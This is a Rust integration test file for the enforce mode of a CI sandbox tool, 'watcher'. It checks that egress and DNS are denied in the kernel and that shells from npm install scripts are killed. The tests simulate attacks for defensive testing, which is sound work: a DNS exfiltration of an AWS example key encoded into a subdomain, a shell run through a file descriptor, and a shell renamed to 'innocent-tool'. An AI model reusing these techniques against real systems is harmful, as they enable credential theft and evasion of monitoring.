//! `watcher run --policy` in enforce mode: denials happen in the kernel (EPERM, nothing
//! reaches the peer), denied executables and shells spawned by install scripts are killed at
//! exec entry, and the step fails with exit code 77 even when the command exits 0.
use std::process::{Command, Stdio};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, netprobe_bin, read_jsonl, root_or_skip, watcher_bin};

fn run_enforced(policy: &str, script: &str, npm_script: bool) -> (Option<i32>, String, String, Vec<Value>) {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.yaml");
    std::fs::write(&p, policy).unwrap();
    let log = dir.path().join("e.jsonl");
    let mut cmd = Command::new(watcher_bin());
    cmd.args(["run", "--quiet", "--policy"]).arg(&p).arg("--log").arg(&log).args(["--", "sh", "-c", script]);
    if npm_script {
        cmd.env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .env("npm_package_version", "99.99.9");
    }
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        read_jsonl(&log),
    )
}

fn alert<'a>(events: &'a [Value], rule: &str) -> &'a Value {
    events.iter().find(|e| e["kind"] == "alert" && e["rule"] == rule).unwrap_or_else(|| {
        panic!("no {rule} alert: {:#?}", events.iter().filter(|e| e["kind"] == "alert").collect::<Vec<_>>())
    })
}

#[test]
fn egress_is_denied_in_the_kernel_for_v4_v6_tcp_udp_and_allowed_hosts_pass() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.31";
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let bad4 = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let bad6 = Listener::start("[::1]:0".parse().unwrap()).unwrap();
    let dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let other_dns = DnsServer::start("127.53.0.32".parse().unwrap(), vec![]).unwrap();
    let policy = format!(
        "version: 1\npipeline: t\nmode: enforce\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{}]\ndns:\n  resolvers: [{dns_ip}]\n",
        ok.addr().port()
    );
    let p = netprobe_bin().display().to_string();
    let (b4, b6) = (bad4.addr().to_string(), bad6.addr().to_string());
    let script = format!(
        "{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{okp} tcp {b4} tcp {b6} udp-sendto {b4} udp-sendto {b6} udp-connect {b4} \
         tcp 127.0.0.1:{other} dns-sendto 127.53.0.32 ok.watcher.test A",
        okp = ok.addr().port(),
        other = bad4.addr().port(),
    );
    let (code, _out, err, events) = run_enforced(&policy, &script, false);
    assert_eq!(code, Some(77), "{err}");
    // The allowed host, reached through the answer for its name, got its connection.
    assert_eq!(ok.connections(), 1, "{err}");
    assert_eq!(dns.queries().len(), 1);
    // Nothing reached the others.
    assert_eq!(bad4.connections() + bad4.datagrams(), 0, "{err}");
    assert_eq!(bad6.connections() + bad6.datagrams(), 0, "{err}");
    assert_eq!(other_dns.queries().len(), 0, "a resolver outside the policy got a query");
    assert!(err.contains("Operation not permitted (EPERM)"), "{err}");
    let denied: Vec<&Value> = events.iter().filter(|e| e["kind"] == "connect" && e["allowed"] == false).collect();
    assert!(denied.len() >= 5, "{denied:#?}");
    assert_eq!(alert(&events, "egress-denied")["action"], "deny");
    assert_eq!(alert(&events, "dns-resolver-denied")["action"], "deny");
}

#[test]
fn denied_executables_and_shells_from_install_scripts_are_killed_before_running() {
    if !root_or_skip() {
        return;
    }
    let policy = "version: 1\npipeline: t\nmode: enforce\nexec:\n  deny: [id]\n  install_scripts:\n    shells: deny\n";
    // An npm postinstall script (sh -c started by npm, here with npm's variables) spawns a
    // shell, and runs a denied executable.
    let (code, out, err, events) = run_enforced(policy, "bash -c 'echo SHELL-RAN'; id; echo SCRIPT-CONTINUED", true);
    assert_eq!(code, Some(77), "{err}");
    assert!(!out.contains("SHELL-RAN"), "the shell ran: {out}");
    assert!(!out.contains("uid="), "id ran: {out}");
    assert!(out.contains("SCRIPT-CONTINUED"));
    let shell = alert(&events, "shell-from-install-script");
    assert_eq!(shell["action"], "kill");
    assert_eq!(shell["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    assert_eq!(alert(&events, "exec-denied")["action"], "kill");

    // Outside an install script, a shell is fine, and a clean step passes.
    let (code, out, err, events) = run_enforced(policy, "bash -c 'echo SHELL-RAN'", false);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("SHELL-RAN"));
    assert!(!events.iter().any(|e| e["kind"] == "alert"));
}

/// An exec through a file descriptor passes no path (fexecve: `execveat(fd, "",
/// AT_EMPTY_PATH)`), so exec entry has no name to judge: the denied program is named from its
/// file at `sched_process_exec` and killed there, before its first instruction, as by path.
/// The same trick on a shell from an install script is caught by content.
#[test]
fn a_denied_program_run_through_a_file_descriptor_is_killed_before_running() {
    if !root_or_skip() {
        return;
    }
    let policy = "version: 1\npipeline: t\nmode: enforce\nexec:\n  deny: [id]\n  install_scripts:\n    shells: deny\n";
    let id = ["/usr/bin/id", "/bin/id"].into_iter().find(|p| std::path::Path::new(p).exists()).unwrap();
    let p = netprobe_bin().display().to_string();
    let (code, out, err, events) = run_enforced(policy, &format!("{p} fexec {id} id; echo SCRIPT-CONTINUED"), false);
    assert_eq!(code, Some(77), "{err}");
    assert!(!out.contains("uid="), "id ran through its descriptor: {out}");
    assert!(out.contains("SCRIPT-CONTINUED"), "{out}");
    let denied = alert(&events, "exec-denied");
    assert_eq!(denied["action"], "kill");
    let exec = events
        .iter()
        .find(|e| e["kind"] == "exec" && e["killed"] == true)
        .unwrap_or_else(|| panic!("no killed exec: {events:#?}"));
    assert_eq!(exec["filename"], "id", "the program is named from its file");

    // A shell through its descriptor from an install script: held by content and killed.
    let (code, out, err, events) =
        run_enforced(policy, &format!("{p} fexec /bin/sh sh -c 'echo SHELL-RAN'; echo SCRIPT-CONTINUED"), true);
    assert_eq!(code, Some(77), "{err}");
    assert!(!out.contains("SHELL-RAN"), "the shell ran: {out}");
    assert_eq!(alert(&events, "shell-from-install-script")["action"], "kill");

    // An allowed program through its descriptor runs, named, and the step is clean.
    let echo = ["/usr/bin/echo", "/bin/echo"].into_iter().find(|p| std::path::Path::new(p).exists()).unwrap();
    let (code, out, err, events) = run_enforced(policy, &format!("{p} fexec {echo} echo FEXEC-RAN"), false);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("FEXEC-RAN"), "{out}");
    let ok = events.iter().rfind(|e| e["kind"] == "exec").unwrap();
    assert_eq!(ok["filename"], "echo");
    assert!(!events.iter().any(|e| e["kind"] == "alert"), "{events:#?}");
}

#[test]
fn audit_override_lets_everything_through_with_the_commands_code() {
    if !root_or_skip() {
        return;
    }
    let bad = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let policy = "version: 1\npipeline: t\nmode: enforce\negress:\n  loopback: false\n";
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.yaml");
    std::fs::write(&p, policy).unwrap();
    let out = Command::new(watcher_bin())
        .args(["run", "--quiet", "--mode", "audit", "--policy"])
        .arg(&p)
        .args(["--", &netprobe_bin().display().to_string(), "tcp", &bad.addr().to_string()])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(bad.connections(), 1);
    assert!(String::from_utf8_lossy(&out.stderr).contains("egress-denied"));
}

#[test]
fn dns_queries_for_names_outside_the_policy_never_leave_the_machine() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.41";
    let dns = DnsServer::start(
        dns_ip.parse().unwrap(),
        vec![
            ("registry.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()]),
            ("a.cdn.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()]),
        ],
    )
    .unwrap();
    let policy = format!(
        "version: 1\npipeline: t\nmode: enforce\negress:\n  allow:\n    - host: registry.watcher.test\n    - host: \"*.cdn.watcher.test\"\ndns:\n  resolvers: [{dns_ip}]\n"
    );
    let secret = "AKIAIOSFODNN7EXAMPLE";
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let leak = format!("{hex}.exfil.watcher.test");
    let p = netprobe_bin().display().to_string();
    let script = format!(
        "{p} dns-sendto {dns_ip} REGISTRY.watcher.test A dns-sendto {dns_ip} a.cdn.watcher.test A \
         dns-sendto {dns_ip} {leak} A dns-tcp {dns_ip} {leak} TXT dns-sendmmsg {dns_ip} cdn.watcher.test,evil.watcher.test A \
         dns-connected {dns_ip} registry.watcher.test.evil.test A"
    );
    let dir = tempfile::tempdir().unwrap();
    let pf = dir.path().join("p.yaml");
    std::fs::write(&pf, policy).unwrap();
    let log = dir.path().join("e.jsonl");
    let out = Command::new(watcher_bin())
        .args(["run", "--quiet", "--policy"])
        .arg(&pf)
        .arg("--log")
        .arg(&log)
        .args(["--", "sh", "-c", &script])
        .env("AWS_ACCESS_KEY_ID", secret)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    let got: Vec<String> = dns.queries().iter().map(|q| q.name.clone()).collect();
    // Exactly the allowed names reached the resolver (case-insensitively, wildcard with a label).
    assert_eq!(got, vec!["registry.watcher.test".to_string(), "a.cdn.watcher.test".to_string()], "{err}");
    let events = read_jsonl(&log);
    let sec = alert(&events, "secret-exfil");
    assert_eq!(sec["action"], "deny");
    assert!(sec["message"].as_str().unwrap().contains("AWS_ACCESS_KEY_ID"));
    assert_eq!(alert(&events, "dns-denied")["action"], "deny");
    assert!(!std::fs::read_to_string(&log).unwrap().contains(secret));
}

#[test]
fn a_copy_of_a_shell_under_another_name_is_still_a_shell() {
    if !root_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("innocent-tool");
    std::fs::copy("/bin/dash", &copy).unwrap();
    let policy = "version: 1\npipeline: t\nmode: enforce\n";
    let script = format!("{} -c 'echo COPY-RAN'; echo SCRIPT-CONTINUED", copy.display());
    let (code, out, err, events) = run_enforced(policy, &script, true);
    assert_eq!(code, Some(77), "{err}");
    assert!(!out.contains("COPY-RAN"), "the renamed shell ran: {out}");
    assert!(out.contains("SCRIPT-CONTINUED"));
    let a = alert(&events, "shell-from-install-script");
    assert_eq!(a["action"], "kill");
    let exec = events.iter().find(|e| e["kind"] == "exec" && e["filename"] == copy.display().to_string()).unwrap();
    assert_eq!(exec["shell"], true);
    // Held by the kernel before its first instruction, judged (not a system shell), killed.
    assert_eq!(exec["held"], true);
    assert!(a["message"].as_str().unwrap().contains("not a system shell"), "{a}");
    // The sensor says it is active.
    let start = events.iter().find(|e| e["kind"] == "start").unwrap();
    assert!(start["sensors"].as_array().unwrap().iter().any(|s| s["name"] == "shell-identity" && s["active"] == true));
}
